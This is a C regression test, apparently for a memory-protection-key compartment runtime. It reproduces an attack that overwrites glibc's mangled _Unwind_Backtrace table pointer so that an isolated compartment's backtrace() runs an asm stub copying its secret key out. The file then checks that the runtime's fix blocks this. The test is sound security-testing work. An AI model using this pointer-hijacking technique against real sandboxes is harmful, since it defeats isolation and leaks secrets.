// Review 25, attacker model A (key-0 loads and stores, no system call).
// runtime/unwind-find.c keeps what libgcc_s's unwinder looks up
// read-only, but a compartment's backtrace() does not call libgcc_s
// directly: glibc 2.36's backtrace takes _Unwind_Backtrace from its own
// table of libgcc_s's functions (misc/unwind-link.c: a static struct in
// libc's .bss, filled once when libgcc_s is first needed, each pointer
// mangled with the pointer guard), then calls what the demangled word
// says, with the rights of whoever called backtrace. Both words are key-0
// memory: the table in libc's .bss, the pointer guard at %fs:0x30 in the
// TCB (readable by every domain: threat-model's row for it). Here the
// program reads the guard, finds the table's word by its contents (the
// mangled address of libgcc_s's _Unwind_Backtrace, in libc's key-0
// writable pages; a fixed offset in libc's binary) and stores there the
// mangled address of steal, a function of the program's whose address is
// taken in asm, so no gate wraps it (it stands for any code that copies
// through key-0 pointers). The vault's own backtrace then runs it with
// the vault's rights: it copies the vault's key into the program's buffer
// and goes on to libgcc_s's function, so the backtrace still works
// (ATTACK SUCCEEDED; seen in the guest, review 25, with and without the
// system-call filter). The control stores nothing, steals nothing.
// The same table gives glibc's cancellation (__pthread_unwind: its
// _Unwind_ForcedUnwind word, and unwind_stop then calls the key-0 TCB's
// old-style cleanup list, __routine(__arg)) and its C cleanup personality
// (not tried).
// Fixed: the runtime defines backtrace (runtime/unwind.c), which every
// caller reaches before glibc's, and calls _Unwind_Backtrace through the
// executable's read-only GOT; glibc's table is filled here by calling
// glibc's own (dlsym RTLD_NEXT) and its word replaced, and the vault's
// backtrace no longer reads it. Cancellation still goes through the table
// (attacks-rev25-cancel-cleanup.c).
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -ldl -o %t
// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
// RUN: %run %t | FileCheck %s
// RUN: %bulkhead_clang -fpkey-compartments -fno-pkey-syscall-filter -O2 %s -ldl -o %t-nf
// RUN: %run %t-nf | FileCheck %s
// Review 26: glibc's other public name, __backtrace (GLIBC_2.2.5), was
// still glibc's and read the table; the runtime now defines it too.
// RUN: %bulkhead_clang -fpkey-compartments -O2 -DALIAS %s -ldl -o %t-alias
// RUN: %run %t-alias | FileCheck %s
// CONTROL: the vault's backtrace: frames
// CONTROL-NEXT: nothing stolen
// CHECK: libc's words for _Unwind_Backtrace: 1
// CHECK: the vault's backtrace: frames
// CHECK-NOT: ATTACK SUCCEEDED
#define _GNU_SOURCE
#include <bulkhead.h>
#include <dlfcn.h>
#include <execinfo.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include "Inputs/key0-words.h"

BULKHEAD_DATA(vault) char vault_key[32] = "TOP-SECRET-VAULT-KEY";

BULKHEAD_ENTRY(vault) int vault_trace(void) {
  void *frames[8];
#ifdef ALIAS
  int __backtrace(void **, int);
  return __backtrace(frames, 8);
#else
  return backtrace(frames, 8);
#endif
}

static char stolen[32];
static const char *volatile from = vault_key; /* key-0 words */
static char *volatile to = stolen;
int (*volatile real)(void *, void *);

__attribute__((used)) void copy(void) {
  for (int i = 0; i < 31; i++)
    to[i] = from[i];
}
/* copy, then on to libgcc_s's function: in asm, since a pointer call in
 * the program's C code is followed by the default domain's gate back. */
__asm__(".text\n"
        ".globl steal\n"
        ".type steal, @function\n"
        "steal:\n"
        "  pushq %rdi\n"
        "  pushq %rsi\n"
        "  subq $8, %rsp\n"
        "  call copy\n"
        "  addq $8, %rsp\n"
        "  popq %rsi\n"
        "  popq %rdi\n"
        "  jmpq *real(%rip)\n"
        ".size steal, .-steal\n");

int main(int argc, char **argv) {
  (void)argv;
  void *first[4];
  /* glibc's own backtrace (the program's name is the runtime's): it
   * loads libgcc_s and fills its table now. */
  int (*glibc_backtrace)(void **, int) =
      (int (*)(void **, int))dlsym(RTLD_NEXT, "backtrace");
  if (!glibc_backtrace || glibc_backtrace(first, 4) < 1) {
    puts("no glibc backtrace");
    return 1;
  }
  if (argc < 2) {
    void *gcc = dlopen("libgcc_s.so.1", RTLD_NOW | RTLD_NOLOAD);
    real = gcc ? (int (*)(void *, void *))dlsym(gcc, "_Unwind_Backtrace") : 0;
    if (!real) {
      puts("no libgcc_s");
      return 1;
    }
    uintptr_t p;
    __asm__("leaq steal(%%rip), %0" : "=r"(p));
    printf("libc's words for _Unwind_Backtrace: %d\n",
           key0_replace(glibc_mangle((uintptr_t)real), glibc_mangle(p)));
  }
  printf("the vault's backtrace: %s\n", vault_trace() > 1 ? "frames" : "none");
  if (strstr(stolen, "TOP-SECRET")) {
    printf("ATTACK SUCCEEDED: the vault's key in the program's memory: %s\n",
           stolen);
    return 0;
  }
  puts("nothing stolen");
  return 0;
}
